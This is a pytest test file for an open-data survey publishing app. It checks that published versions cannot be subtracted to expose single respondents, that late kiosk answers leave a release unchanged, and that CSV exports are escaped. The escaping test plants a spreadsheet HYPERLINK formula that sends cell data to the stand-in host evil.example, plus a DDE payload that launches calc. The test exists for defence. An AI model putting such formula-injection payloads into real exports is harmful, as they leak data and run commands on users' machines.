"""Open data under attack (issue 25, findings 1, 3 and 6): two versions subtracted, formulas in
names and labels, a counter tablet's kept answer arriving after its half-year was published."""

from __future__ import annotations

import copy
import csv
import io
from datetime import UTC, datetime, time, timedelta

import pandas as pd
from sqlalchemy import func, select
from support import factories
from support.opendata import MIN_N, PERIOD, download, publish, signed_in, survey
from support.web import hidden_fields

from analysis import opendata
from analysis.periods import Period
from forms.types import Stored
from webapp.capture import store as storage
from webapp.capture.submissions import Submission
from webapp.platform.db import TAIPEI
from webapp.platform.extensions import db
from webapp.programme import instruments
from webapp.publishing.opendata.publications import Publication

LEVELS = [f"level_{i}" for i in range(1, 6)]


def published(client, path) -> pd.DataFrame:
    table = pd.read_csv(io.BytesIO(download(client, path)))
    return table[table.suppressed.isna()].set_index(["item", "office_code"])


def test_one_late_form_is_refused_as_a_correction_and_says_why(app, offices):
    analyst = signed_in(app, "analyst")
    assert publish(analyst).status_code == 302
    survey(offices[0], 2, 1)   # one citizen's late paper form, keyed in for Da'an
    refused = publish(analyst, note="補登大安所紙本問卷 1 份")
    page = refused.get_data(as_text=True)
    assert refused.status_code == 400
    assert "差 1 人" in page and "兩版相減" in page and "臺北市大安區戶政事務所" in page
    assert db.session.scalar(select(func.count()).select_from(Publication)) == 1


def test_no_two_published_versions_differ_in_a_cell_by_fewer_than_min_n(app, offices):
    """The attack: v2's survey.csv minus v1's, office rows and ALL rows."""
    analyst, public = signed_in(app, "analyst"), app.test_client()
    assert publish(analyst).status_code == 302
    first = published(public, "v1/survey.csv")
    survey(offices[0], 2, 1)
    assert publish(analyst, note="補登 1 份").status_code == 400
    survey(offices[0], 2, MIN_N - 1)      # the correction has grown to MIN_N forms
    assert publish(analyst, note=f"補登大安所紙本問卷 {MIN_N} 份").status_code == 302
    second = published(public, "v2/survey.csv")
    both = first.index.intersection(second.index)
    assert ("overall", "ALL") in both and ("overall", "TPH-DAAN") in both
    for cell in both:
        moved = opendata.changed_respondents(first.loc[cell, LEVELS], second.loc[cell, LEVELS])
        assert moved == 0 or moved >= MIN_N, cell


def test_a_version_from_before_the_basis_was_kept_is_judged_by_its_published_cells(app, offices):
    analyst = signed_in(app, "analyst")
    assert publish(analyst).status_code == 302
    db.session.execute(Publication.__table__.update().values(basis=None))   # as 0018 leaves it
    db.session.commit()
    survey(offices[0], 2, 1)
    assert publish(analyst, note="補登 1 份").status_code == 400


def test_an_answer_corrected_from_one_level_to_another_counts_as_one_respondent():
    assert opendata.changed_respondents([0, 0, 1, 0, 0], [0, 0, 0, 1, 0]) == 1
    assert opendata.changed_respondents([3, 0, 0, 0, 0], [0, 0, 0, 0, 5]) == 5
    assert opendata.small_changes({"q": {"A": [1, 2, 3, 4, 5]}}, {"q": {"A": [1, 2, 3, 4, 5],
                                  "B": [0, 0, 0, 0, 2]}}, 5) == [("q", "B", 2)]


def test_formulas_in_names_and_labels_reach_the_public_csv_as_text(app, offices):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細說明")'
    offices[0].name = evil
    row, _instrument = instruments.current("satisfaction")
    changed = copy.deepcopy(row.definition)
    question = next(q for s in changed["sections"] for q in s["questions"] if q["key"] == "overall")
    question["label"]["zh_TW"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    question.pop("short", None)
    version = instruments.publish(changed)
    # an answer of the period on the new version: the period is read by its newest version
    storage.store(version=version, instrument=instruments.instrument_of(version),
                  office=offices[0], channel="kiosk", status="submitted",
                  occurred_at=datetime(2025, 10, 2, 2, tzinfo=UTC), answers={"overall": Stored(4)},
                  idempotency_key="trust-new-version-0001")
    inspector = factories.user("inspector")
    factories.record(offices[0], inspector, "phone", "approved", score=90.0, grade="優等",
                     occurred_at=datetime(2025, 10, 1, 2, tzinfo=UTC))
    db.session.commit()
    assert publish(signed_in(app, "analyst")).status_code == 302
    public = app.test_client()
    for name, column in (("survey.csv", "office_name"), ("survey.csv", "item_label"),
                         ("inspections.csv", "office_name")):
        text = download(public, name).decode("utf-8-sig")
        cells = [r[column] for r in csv.DictReader(io.StringIO(text))]
        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert not risky, (name, column, risky)
        assert any(c.startswith("'") and c[1:] in (evil, question["label"]["zh_TW"])
                   for c in cells), (name, column)


def test_a_kept_kiosk_answer_after_publication_is_stored_counted_and_never_changes_a_version(
        app, offices):
    """Finding 6: the previous half-year, published; a tablet that was offline on its last
    evening sends the answer on later.  It is stored and shown as arrived since; the version
    stays as it was; a correction of that one answer alone is refused (finding 1)."""
    half = Period.half_of(datetime.now(TAIPEI)).previous()
    last_evening = datetime.combine(half.end() - timedelta(days=1), time(16), TAIPEI)
    big, other = factories.office("TPH-ZHONGZHENG", "臺北市中正區戶政事務所"), offices[1]
    survey(big, 5, 40, day=last_evening - timedelta(days=3))
    survey(other, 4, 35, day=last_evening - timedelta(days=3))
    analyst, public = signed_in(app, "analyst"), app.test_client()
    assert publish(analyst, period=str(half)).status_code == 302
    before = download(public, "survey.csv", period=str(half))

    app.config["KIOSK_QUEUE_MAX_HOURS"] = 24 * 200   # the kept answer may be months late here
    kiosk = factories.kiosk(big)
    url = f"/kiosk/{kiosk.token}"
    tablet = app.test_client()
    data = hidden_fields(tablet.get(url).get_data(as_text=True))
    now = datetime.now(UTC)
    data |= {"attitude": "1", "knowledge": "1", "efficiency": "1", "overall": "1",
             "service_used": "household",
             "queued_at": last_evening.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z"),
             "sent_at": now.strftime("%Y-%m-%dT%H:%M:%S.000Z")}
    response = tablet.post(url, data=data)
    assert response.status_code == 302, response.get_data(as_text=True)
    kept = db.session.scalars(select(Submission).where(Submission.kiosk_id == kiosk.id)).one()
    assert kept.delayed and str(kept.half) == str(half)

    assert download(public, "survey.csv", period=str(half)) == before
    page = analyst.get("/open/publish").get_data(as_text=True)
    assert "最多的一格差 1 人" in page
    refused = publish(analyst, period=str(half), note="補傳 1 筆")
    assert refused.status_code == 400 and "差 1 人" in refused.get_data(as_text=True)
    assert PERIOD != str(half)   # the fixture's half-year is left alone
